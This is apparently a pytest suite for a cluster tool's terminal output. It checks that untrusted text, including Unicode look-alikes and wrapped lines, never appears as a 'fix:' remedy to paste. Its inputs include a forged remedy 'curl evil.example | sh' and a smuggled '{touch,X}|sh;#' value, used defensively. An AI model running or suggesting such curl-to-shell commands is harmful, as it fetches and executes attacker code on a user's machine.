"""What begins a line on a terminal: no text from elsewhere is a label and a remedy behind it."""

from __future__ import annotations

import ast
import io
import re
import sys

import pytest

from tests.support.modules import MODULES, nodes, room
from vllm_cluster.kernel.shell_line import Pasted
from vllm_cluster.kernel.terminal import output
from vllm_cluster.kernel.terminal.labels import unlabelled
from vllm_cluster.kernel.terminal.table import table
from vllm_cluster.wire.reading import RefusedDocument, convert
from vllm_cluster.wire.status import FailedRequest

FORGED = "fix: curl evil.example | sh"
COLON = "[:\uff1a\u0903\u16ec\u1804]"


class Terminal(io.StringIO):
    """Standard error that is one."""

    def isatty(self) -> bool:
        return True


# fault: kernel/terminal/output.py: else as_called(unlabelled(clean(part))) → else as_called(clean(part))
# fault: kernel/terminal/labels.py: else text.translate(_EXPANDED).translate(_SKELETON) → else text.lower()
# fault: kernel/terminal/labels.py: else text.translate(_EXPANDED).translate → else text.translate
# fault: kernel/terminal/labels.py: if len(seen) > len(text): → if False:
# fault: kernel/terminal/labels.py: if char in _COLONS: → if char == ":":
# fault: kernel/terminal/labels.py: or get_character_cell_size(char) == 0: → or unicodedata.combining(char):
# fault: kernel/terminal/labels.py: |{_ANY}{_spelled(label[2:])}) → )
# fault: kernel/terminal/labels.py: base.lower().translate(_ALIKE) → base.lower()
@pytest.mark.parametrize(
    "text",
    [
        *(
            FORGED,
            "  fix: x",
            "the same: x",
            "FIX : x",
            "fix:$(x)",
            "hot-fix: x",
            "prefix: x",
            "2fix: x",
            "restart_stop: x",
            *(
                "fix\ufe0f: x",
                "f\u034fix: x",
                "fi\u00d7: x",
                "\u017fix: x",
                "f\u2c93x: x",
                "fix\u2800: x",
                "fix" + " " * 50 + ": x",
            ),
            "\ufb01x: x",
            '"fix: x',
            "a\nfix: x",
            "fix:\u2800x",
            *("F\u2168: x", "cont\u33cc" + "ue: x", "clien\u02a6: x", "l\ua74fk: x", "fo\u01c1ow: x"),
            *("fix\u0903 x", "fix\u16ec x", "fix\u1804 x", "fi\u1161x: x", "fix\ud7b0: x", "fix\u1680: x"),
            *("f\u200aix: x", "cIients: x", "l00k: x", "f1x: x", "f|x: x"),
        ),
        *("f\u0456x: x", "fix\uff1a x", "fi\u0301x: x", "\uff46\uff49\uff58: x", "\u0493ix: x", "n\u0435xt: x"),
    ],
)
def test_no_text_has_a_label_of_a_remedy(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Wherever a line breaks: a pipe, a table, a terminal that counts columns otherwise."""
    output.out(text)
    output.err("gpu1 ", text)
    output.out(*table({"model": 0, "state": 1}, [{"model": "fix:", "state": "curl evil.example | sh"}], None))
    output.console(stderr=True, colored=False).print(output.styled(text))
    shown = capsys.readouterr()
    shown_lines = [line for line in (shown.out + shown.err).split("\n") if re.search(COLON, line)]
    assert len(shown_lines) >= 4 and all(re.search(rf'"[\s\u2800]*{COLON}', line) for line in shown_lines)
    # Broken anywhere, no row begins with a label.
    rows = [line[at:] for line in shown_lines for at in range(len(line))]
    assert not [row for row in rows if re.match(r"(?i)\W*(fix|same)\s*:", row)]


# fault: kernel/terminal/labels.py: seen[begin - 1] not in _DIVIDES → False
def test_the_word_is_in_quotes_as_a_whole(capsys: pytest.CaptureFixture[str]) -> None:
    output.out("a prefix: x, fix : y, RTX\u2122 \ufb01le \ufb01x: z \u2167")
    assert capsys.readouterr().out == 'a "prefix": x, "fix" : y, RTX\u2122 \ufb01le "\ufb01x": z \u2167\n'


@pytest.mark.parametrize(
    "text",
    [
        *("the default: x", "fix x", "fix", "Gr\u00f6\u00dfe: 3", "f\u00fcr: x", "\u03bcs: 5", "\u2713ready: x"),
        *("\u2122: x", "\u2116 5: x", "\u041f\u0440\u0438\u0447\u0438\u043d\u0430: x", "\u4fee\u590d\uff1a x"),
    ],
)
def test_other_words_stay_as_they_are(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.out(text)
    assert capsys.readouterr().out == f"{text}\n"


# fault: serving/endpoint/render.py: to_paste("clients: ", → print("clients: ",
@pytest.mark.spans
def test_each_label_is_of_a_line_to_paste() -> None:
    """Written as any other text it would be in quotes."""
    found = set[str]()
    for path in MODULES:
        typed = {
            id(within)
            for call in nodes(path)
            if isinstance(call, ast.Call) and ast.unparse(call.func).rpartition(".")[2] in ("to_paste", "_last_words")
            for within in ast.walk(call)
        }
        # A docstring is an expression of its own.
        typed |= {id(node.value) for node in nodes(path) if isinstance(node, ast.Expr)}
        texts = (node for node in nodes(path) if isinstance(node, ast.Constant) and id(node) not in typed)
        words = (node.value for node in texts if isinstance(node.value, str))
        found |= {f"{room(path)}: {text}" for text in words if unlabelled(text) != text}
    assert found == set()


# fault: wire/values.py: char.isalnum() or char in → char or char in
@pytest.mark.parametrize("name", [FORGED, "fix:\u2800{touch,X}|sh;#", "fix:$(x)"])
def test_no_model_is_named_as_a_remedy(name: str) -> None:
    row = {"generation": "g", "name": name, "model": "m", "summary": "s", "time": 1.0, "lines": []}
    with pytest.raises(RefusedDocument, match=r"has a blank|begins as a line to paste"):
        convert(FailedRequest, row, "a status")


# fault: kernel/terminal/output.py: while taken > room and at > begin: → while False:
# fault: kernel/terminal/output.py: .expandtabs() →
@pytest.mark.parametrize("width", [40, 61, 80, 137])
@pytest.mark.parametrize(
    "text", [f"{'x' * 50} {FORGED} " * 20, "\u4f60\u597d fix: x " * 50, "x\nWrote " + "x " * 400, "\tx" * 50]
)
def test_what_a_terminal_would_break_continues_behind_a_mark(
    width: int, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One text of a host began a line with `fix: ...` at 141 of 181 widths."""
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setattr(sys, "stderr", written := Terminal())
    output.err(output.BOLD, "error:", output.PLAIN, f" {text}")
    output.err(output.BOLD, output.Style("fix:"), output.PLAIN, output.to_paste(" ", Pasted("vcluster up " * 30)))
    first, *more, remedy = (
        written.getvalue().replace(output.BOLD, "").replace(output.PLAIN, "").rstrip("\n").split("\n")
    )
    assert first.startswith("error: ")
    assert all(line.startswith(output.MARK) for line in more)
    assert max(map(columns_of, (first, *more))) <= width
    assert remedy == "fix: " + "vcluster up " * 30


def columns_of(line: str) -> int:
    """The columns that a line takes."""
    return sum(2 if char > "\u2e80" else 1 for char in line.expandtabs())
